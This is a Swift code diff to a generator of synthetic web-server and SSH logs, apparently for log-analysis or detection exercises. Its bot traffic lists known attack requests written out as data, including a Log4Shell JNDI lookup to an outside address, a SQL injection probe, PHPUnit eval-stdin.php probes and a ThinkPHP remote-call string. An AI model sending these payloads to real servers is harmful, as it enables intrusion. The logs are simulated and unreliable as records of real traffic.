@@ -14,6 +14,8 @@ struct Background {
     private var line = 0
 
     static let day: Int64 = 86_400
+    /// All of its people come through this address.
+    static let office = "192.0.2.50"
 
     /// A rate of one of its parts, a day.
     enum Rate {
@@ -82,7 +84,7 @@ struct Background {
         let agent = pick(Self.botAgents)
         var at = moment(day)
         for path in Self.probes.shuffled(using: &random).prefix(paths) {
-            web(address, "GET \(path)", status: 404, at: at, agent: agent)
+            web(address, "GET \(path)", at: at, agent: agent)
             at += Int64(number(0...3))
         }
     }
@@ -92,9 +94,9 @@ struct Background {
         let agent = pick(Self.botAgents)
         var at = moment(day)
         let request = chance(0.7) ? "POST /wp-login.php" : "POST /xmlrpc.php"
-        if chance(0.5) { for author in 1...3 { web(address, "GET /?author=\(author)", status: 404, at: at, agent: agent) } }
+        if chance(0.5) { for author in 1...3 { web(address, "GET /?author=\(author)", at: at, agent: agent) } }
         for _ in 0..<number(1...40) {
-            web(address, request, status: 404, at: at, agent: agent)
+            web(address, request, at: at, agent: agent)
             at += Int64(number(1...20))
         }
     }
@@ -104,7 +106,7 @@ struct Background {
         let address = bot()
         let at = moment(day)
         for (number, request) in pick(Self.deviceExploits).enumerated() {
-            web(address, request, status: 404, at: at + Int64(number), agent: chance(0.5) ? "Hello, World" : pick(Self.botAgents))
+            web(address, request, at: at + Int64(number), agent: chance(0.5) ? "Hello, World" : pick(Self.botAgents))
         }
     }
 
@@ -113,7 +115,7 @@ struct Background {
         var at = moment(day)
         for path in Self.kit.shuffled(using: &random).prefix(number(5...Self.kit.count)) {
             web(
-                address, path, status: 404, at: at,
+                address, path, at: at,
                 agent: "Mozilla/5.0 (compatible; \(pick(["zgrab/0.x", "libredtail-http", "Custom-AsyncHttpClient"])))")
             at += Int64(number(0...2))
         }
@@ -139,6 +141,8 @@ struct Background {
                 "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)"
             ),
         ] {
+            friend(address, "GET /", bytes: Self.startPageBytes, at: day, agent: agent)
+            friend(address, "GET /author-sitemap.xml", bytes: 1_907, at: day + 40, agent: agent)
             for step in 0..<Rate.crawlerRequests / 3 {
                 let at = day + Int64(step) * 430 + Int64(number(0...60))
                 friend(address, "GET /articles/\(number(1...400))", status: chance(0.02) ? 404 : 200, at: at, agent: agent)
@@ -156,6 +160,7 @@ struct Background {
         for visitor in 0..<Rate.visitors {
             let address = "203.0.113.\(visitor + 1)"
             var at = moment(day)
+            friend(address, "GET /", bytes: Self.startPageBytes, at: at - 5)
             for _ in 0..<number(3...20) {
                 friend(address, "GET /articles/\(number(1...400))", at: at)
                 at += Int64(number(4...90))
@@ -164,11 +169,14 @@ struct Background {
             if chance(0.15) { friend(address, "GET /articles/moved-\(number(1...50))", status: 404, at: at + 1) }
             if chance(0.3) { signIn(address, at: at + 20) }
         }
+        // Somebody's page elsewhere has this site's list of accounts in place of a picture: whoever looks at it asks for that.
+        friend(
+            Self.office, "GET /wp-json/wp/v2/users", status: 401, at: day + 36_000, referrer: "https://forum.example.net/thread/9")
         // An office whose people come through one address, most of them at about nine.
         for person in 0..<Rate.peopleBehindOneAddress {
             let at = day + 32_400 + Int64(number(0...2_400))
-            signIn("192.0.2.50", at: at)
-            if person % 4 == 0 { signInBySSH("192.0.2.50", "person\(person)", at: at + 60) }
+            signIn(Self.office, at: at)
+            if person % 4 == 0 { signInBySSH(Self.office, "person\(person)", at: at + 60) }
         }
     }
 
@@ -214,16 +222,21 @@ struct Background {
         line += 1
     }
 
-    private mutating func web(_ address: String, _ request: String, status: Int, at seconds: Int64, agent: String) {
-        log.web("bot \(address)", from: address, request, status: status, at: seconds, agent: agent)
+    /// What is not there is 404. The start page is there, and does not look at what stands behind its question mark.
+    private mutating func web(_ address: String, _ request: String, at seconds: Int64, agent: String) {
+        let isStart = request.hasPrefix("GET /?") || request.hasPrefix("GET /index.php?")
+        log.web(
+            "bot \(address)", from: address, request, status: isStart ? 200 : 404, bytes: isStart ? Self.startPageBytes : 162,
+            at: seconds, agent: agent)
         line += 1
     }
 
     private mutating func friend(
-        _ address: String, _ request: String, status: Int = 200, at seconds: Int64,
+        _ address: String, _ request: String, status: Int = 200, bytes: Int = 512, at seconds: Int64, referrer: String = "-",
         agent: String = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
     ) {
-        log.web(nil, from: address, request, status: status, at: seconds, agent: agent)
+        log.web(
+            nil, from: address, request, status: status, bytes: bytes, at: seconds, referrer: referrer, agent: agent)
         line += 1
     }
 
@@ -240,6 +253,8 @@ struct Background {
     private mutating func chance(_ share: Double) -> Bool { self.share() < share }
     private mutating func pick<Element>(_ elements: [Element]) -> Element { elements[number(0...elements.count - 1)] }
 
+    /// Less than most have, and like what a file of settings has.
+    private static let startPageBytes = 4_321
     private static let dav = "Mozilla/5.0 (Linux) mirall/3.14.0 (Nextcloud)"
     private static let accounts = [
         "root", "root", "admin", "ubuntu", "test", "oracle", "postgres", "user", "git", "pi", "ftpuser", "deploy", "hadoop",
@@ -272,7 +287,7 @@ struct Background {
         ["GET /?x=${jndi:ldap://198.18.0.1/a}", "GET /?q=${jndi:ldap://198.18.0.1/a}"],
         ["POST /hudson", "GET /goform/webLogin"], ["GET /?id=1%27%20or%201=1--"],
     ]
-    private static let kit = [
+    static let kit = [
         "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "POST /phpunit/src/Util/PHP/eval-stdin.php",
         "POST /lib/phpunit/Util/PHP/eval-stdin.php",
         "GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello",
